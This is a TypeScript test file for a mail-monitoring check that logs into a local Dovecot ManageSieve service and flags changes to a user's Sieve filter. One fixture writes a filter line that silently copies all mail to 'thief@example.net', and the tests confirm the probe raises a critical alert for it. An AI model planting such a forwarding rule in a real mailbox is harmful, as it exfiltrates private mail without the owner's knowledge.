import { chown, mkdir, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import managesieve from "../../checks/managesieve.ts";
import { runProbe, type RunOutcome } from "../../src/engine/run-probe.ts";
import type { Json } from "../../src/model/json.ts";
import { createDial } from "../../src/net/dial.ts";
import { type Authority, createAuthority } from "../support/certificates.ts";
import { probeOf, testWorld } from "../support/check-tester.ts";
import { type Dovecot, mailUid, startDovecot } from "../support/dovecot.ts";
import { secretOf } from "../support/mail-world.ts";
import { createZone } from "../support/zone.ts";

const address = "127.0.64.1";
const host = "sieve.own.test";
const user = "sales@own.test";
const users = { [user]: 'pa:ss "wörd\\ §', "boss@own.test": "suspended" };

let authority: Authority;
let dovecot: Dovecot;

beforeAll(async () => {
  authority = await createAuthority();
  dovecot = await startDovecot({
    address,
    users,
    disabled: { "boss@own.test": "Suspended" },
    tls: await authority.issue({ names: [host] }),
    extraConfig: `
protocols = imap sieve
service managesieve-login {
  inet_listener sieve {
    port = 4190
  }
}
plugin {
  sieve = file:~/sieve;active=~/.dovecot.sieve
}
`,
  });
});

afterAll(() => dovecot.stop());

/** The filter of the mailbox as its owner, or a thief, would set it. */
async function setFilter(name: string, script: string): Promise<void> {
  const home = dovecot.mailFolder(user);
  await mkdir(join(home, "sieve"), { recursive: true });
  const file = join(home, "sieve", `${name}.sieve`);
  await writeFile(file, script);
  await symlink(`sieve/${name}.sieve`, join(home, ".dovecot.sieve")).catch(() => undefined);
  for (const path of [home, join(home, "sieve"), file]) await chown(path, mailUid, mailUid);
}

async function run(options: object = {}, memory?: Json): Promise<RunOutcome> {
  const { ask } = createZone({ [host]: { A: [address] } });
  const parsed = managesieve.options.parse({ host, user, password: secretOf(users[user]), ...options });
  const dial = createDial({ ask, extraAuthorities: [authority.certPem] });
  const outcome = await runProbe(probeOf(managesieve, parsed), managesieve, testWorld({ ask, dial, memory }));
  if (!outcome) throw new Error("the run was cut short");
  return outcome;
}

const codes = ({ observation }: RunOutcome): readonly string[] => observation.findings.map(({ code }) => code);

describe("managesieve on Pigeonhole", () => {
  test("enters by STARTTLS, sees no filter, then one, and tells who sends mail away", async () => {
    const empty = await run();
    expect(codes(empty), empty.observation.evidence.join("\n")).toEqual([]);
    expect(empty.loggedIn).toEqual([user]);
    expect(empty.memory).toMatchObject({ active: "", forwards: [] });

    await setFilter("main", 'require ["fileinto", "copy"];\nfileinto "INBOX";\n');
    const changed = await run({}, empty.memory);
    expect(codes(changed)).toEqual(["script-changed"]);
    const { data } = changed.observation.findings[0] ?? {};
    const accepted = await run({ acknowledged: data?.["mark"] }, changed.memory);
    expect(codes(accepted)).toEqual([]);
    expect(codes(await run({}, accepted.memory))).toEqual([]);

    await setFilter("main", 'require ["fileinto", "copy"];\nredirect :copy "thief@example.net";\nfileinto "INBOX";\n');
    const robbed = await run({}, accepted.memory);
    expect(codes(robbed)).toEqual(["forward-added"]);
    expect(robbed.observation.status).toBe("critical");
    expect(robbed.observation.findings[0]?.data).toMatchObject({ addresses: "thief@example.net", script: "main" });
    expect(robbed.observation.evidence.join("\n")).not.toContain("thief@example.net");
  });

  test("looks at the service without a login", async () => {
    const outcome = await run({ user: undefined, password: undefined });
    expect(codes(outcome)).toEqual([]);
    expect(outcome.observation.evidence.join("\n")).not.toContain("AUTHENTICATE PLAIN");
  });

  test("a wrong password is definite", async () => {
    const outcome = await run({ password: secretOf("wrong") });
    expect(codes(outcome), outcome.observation.evidence.join("\n")).toEqual(["login-rejected"]);
    expect(outcome.rejected?.kind).toBe("definite");
  });

  test("an account that is suspended", async () => {
    const outcome = await run({ user: "boss@own.test", password: secretOf("suspended") });
    expect(codes(outcome), outcome.observation.evidence.join("\n")).toEqual(["account-locked"]);
  });

  test("the password does not go to a server that is not proved", async () => {
    const { ask } = createZone({ [host]: { A: [address] } });
    const parsed = managesieve.options.parse({ host, user, password: secretOf(users[user]) });
    const dial = createDial({ ask, extraAuthorities: [] });
    const outcome = await runProbe(probeOf(managesieve, parsed), managesieve, testWorld({ ask, dial }));
    expect(outcome?.observation.findings[0]?.code).toMatch(/^certificate-/);
    expect(outcome?.observation.evidence.join("\n")).not.toContain("AUTHENTICATE PLAIN");
  });
});
